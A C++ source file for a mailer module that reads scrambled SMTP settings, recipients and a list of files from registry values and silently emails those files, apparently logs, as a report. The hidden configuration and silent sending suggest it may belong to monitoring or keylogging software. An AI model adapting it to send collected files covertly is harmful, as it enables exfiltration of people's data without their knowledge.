#include "mailer/postrider.h"

#include <exception>
#include <system_error>
#include <limits>

#include "common/reg_value.h"
#include "common/registry_keys.h"
#include "common/scramble.h"
#include "mailer/sendable_files.h"

namespace mail {

namespace {

std::string ReadText(std::string_view name) {
    return CRegString(common::QuillmarkValue(name)).Get();
}

std::string ReadScrambled(std::string_view name) { return common::Descramble(ReadText(name)); }

}  // namespace

PostriderSettings ReadPostriderSettings() {
    PostriderSettings s;
    s.recipients = ReadScrambled("EmailAddress");
    s.files = ReadText("ToSendFile");
    s.senderAddress = ReadScrambled("SMTPEmailAddress");
    s.senderName = ReadScrambled("SMTPName");
    s.host = ReadScrambled("SMTPSRV");
    s.authName = ReadScrambled("SMTPAUTH");
    s.user = ReadScrambled("SMTPEmailAddress4Server");
    s.password = ReadScrambled("SMTPPass4MailServer");
    s.port = CRegDword(common::QuillmarkValue("SMTPPORT")).Get();
    return s;
}

AuthMethod AuthMethodFromName(std::string_view name) {
    if (name == "None") return AuthMethod::None;
    if (name == "CRAM MD5") return AuthMethod::CramMd5;
    if (name == "AUTH PLAIN") return AuthMethod::Plain;
    if (name == "NTLM") return AuthMethod::Ntlm;
    return AuthMethod::Login;
}

CSMTPMessage BuildReportMessage(const PostriderSettings& settings) {
    CSMTPMessage message;
    message.SetCharset(std::string(kReportCharset));
    message.AddRecipientList(settings.recipients, CSMTPMessage::kTo);
    message.SetSubject(std::string(kReportSubject));
    message.SetBodyText(kReportBodyText);
    if (!settings.files.empty()) message.AddAttachmentList(settings.files);
    message.SetSender(CSMTPAddress(settings.senderAddress, settings.senderName));
    return message;
}

void SendReport(const PostriderSettings& settings, CTernSMTPConnection& connection) {
    const CSMTPMessage message = BuildReportMessage(settings);
    if (settings.port > std::numeric_limits<std::uint16_t>::max()) {
        throw CSMTPException::System(static_cast<int>(std::errc::invalid_argument));
    }
    connection.Connect(settings.host, AuthMethodFromName(settings.authName), settings.user,
                       settings.password, static_cast<std::uint16_t>(settings.port), {});
    connection.SendMessage(message);
    try {
        connection.Disconnect(true);
    } catch (const CSMTPException&) {
        // The message was accepted; how the server takes the goodbye does
        // not change that.
    }
}

int RunPostrider() noexcept {
    try {
        PostriderSettings settings = ReadPostriderSettings();
        if (!HoldToLogsFolder(settings)) return 1;
        CTernSMTPConnection connection;
        SendReport(settings, connection);
        return 0;
    } catch (...) {
        return 1;
    }
}

}  // namespace mail
